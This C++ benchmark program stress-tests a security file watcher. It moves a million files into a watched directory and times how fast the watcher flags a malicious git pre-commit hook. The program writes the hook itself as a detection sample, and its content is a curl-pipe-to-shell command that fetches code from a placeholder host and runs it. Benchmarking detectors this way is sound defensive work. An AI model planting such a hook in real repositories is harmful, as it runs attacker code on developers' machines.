// A million files moved into a watched tree at once, and a malicious git hook written right after:
// how long until the hook's finding comes out, how many of the moved files came out before it, how long
// until every moved file came out, and the watcher's peak memory (VmHWM).
// Run it by hand while the machine is otherwise idle (it prints the load average first), on a build
// without sanitizers:
//   cmake -S . -B build/rel -DCMAKE_BUILD_TYPE=Release -DTW_BUILD_TESTS=OFF
//   cmake --build build/rel --target twwatch_bulk_bench && build/rel/bench/twwatch_bulk_bench [--files N]
// twwatch loads the bundled pack plus a match-everything rule from a private $XDG_CONFIG_HOME, so every
// moved file is a line and the hook is a critical line of its own.

#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fcntl.h>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <string>
#include <sys/wait.h>
#include <unistd.h>

namespace fs = std::filesystem;
using Clock = std::chrono::steady_clock;

namespace {

void writeText(const fs::path& path, const std::string& text)
{
    std::ofstream(path, std::ios::binary) << text;
}

std::string firstLine(const fs::path& path)
{
    std::ifstream in(path);
    std::string line;
    std::getline(in, line);
    return line;
}

std::string peakMemory(pid_t pid)
{
    std::ifstream in("/proc/" + std::to_string(pid) + "/status");
    for (std::string line; std::getline(in, line);) {
        if (line.rfind("VmHWM:", 0) == 0)
            return line.substr(6);
    }
    return "?";
}

double secondsSince(Clock::time_point t)
{
    return std::chrono::duration<double>(Clock::now() - t).count();
}

} // namespace

int main(int argc, char** argv)
{
    long files = 1000000;
    const long perFolder = 1000;
    for (int i = 1; i + 1 < argc; i += 2) {
        if (std::strcmp(argv[i], "--files") == 0)
            files = std::max(perFolder, std::atol(argv[i + 1]));
    }
    std::cout << "load average: " << firstLine("/proc/loadavg") << '\n';

    char tmpl[] = "/tmp/twwatch-bulk-XXXXXX";
    if (!mkdtemp(tmpl))
        return 1;
    const fs::path base = tmpl;
    const fs::path root = base / "root", bulk = base / "bulk", config = base / "config";
    fs::create_directories(root / ".git/hooks");
    fs::create_directories(config / "tarnwick/rules");
    writeText(config / "tarnwick/rules/everything.yar",
              "rule bench_everything { meta: severity = \"warning\" condition: true }\n");
    const auto madeAt = Clock::now();
    for (long i = 0; i < files; ++i) {
        const fs::path dir = bulk / ("d" + std::to_string(i / perFolder));
        if (i % perFolder == 0)
            fs::create_directories(dir);
        const int fd = ::open((dir / ("f" + std::to_string(i % perFolder))).c_str(),
                              O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (fd >= 0)
            ::close(fd);
    }
    std::cout << files << " files in " << files / perFolder << " folders made in " << secondsSince(madeAt)
              << " s\n";

    int in[2], out[2];
    if (pipe2(in, O_CLOEXEC) != 0 || pipe2(out, O_CLOEXEC) != 0)
        return 1;
    const pid_t pid = fork();
    if (pid == 0) {
        dup2(in[0], 0);
        dup2(out[1], 1);
        setenv("XDG_CONFIG_HOME", config.c_str(), 1);
        const std::string binary = std::string(TW_BIN_DIR) + "/twwatch";
        execl(binary.c_str(), binary.c_str(), static_cast<char*>(nullptr));
        _exit(127);
    }
    ::close(in[0]);
    ::close(out[1]);
    const std::string message = root.string() + "\n\n";
    if (::write(in[1], message.data(), message.size()) != static_cast<ssize_t>(message.size()))
        return 1;
    FILE* lines = fdopen(out[0], "r");
    char* line = nullptr;
    size_t capacity = 0;
    // Ready once a probe in the root is reported.
    writeText(root / "probe", "x");
    while (getline(&line, &capacity, lines) > 0 && !std::strstr(line, "/probe\""))
        writeText(root / "probe", "x");

    const std::string hook = (root / ".git/hooks/pre-commit").string();
    fs::rename(bulk, root / "bulk");
    const auto movedAt = Clock::now();
    writeText(hook, "#!/bin/sh\ncurl -fsSL http://203.0.113.7/x | sh\n");
    const auto hookAt = Clock::now();
    long bulkLines = 0, bulkBeforeHook = -1;
    double hookLatency = -1;
    while (bulkLines < files || hookLatency < 0) {
        if (getline(&line, &capacity, lines) <= 0)
            break;
        if (std::strstr(line, "/root/bulk/"))
            ++bulkLines;
        else if (hookLatency < 0 && std::strstr(line, hook.c_str()) && std::strstr(line, "\"critical\"")) {
            hookLatency = secondsSince(hookAt);
            bulkBeforeHook = bulkLines;
        }
    }
    const double allDone = secondsSince(movedAt);
    std::cout << "hook finding after " << hookLatency << " s, with " << bulkBeforeHook << " of " << files
              << " moved files reported before it\n"
              << "every moved file reported after " << allDone << " s (" << bulkLines << " lines)\n"
              << "twwatch peak memory:" << peakMemory(pid) << '\n';
    ::kill(pid, SIGTERM);
    waitpid(pid, nullptr, 0);
    free(line);
    fclose(lines);
    ::close(in[1]);
    fs::remove_all(base);
    return hookLatency >= 0 && bulkLines == files ? 0 : 1;
}
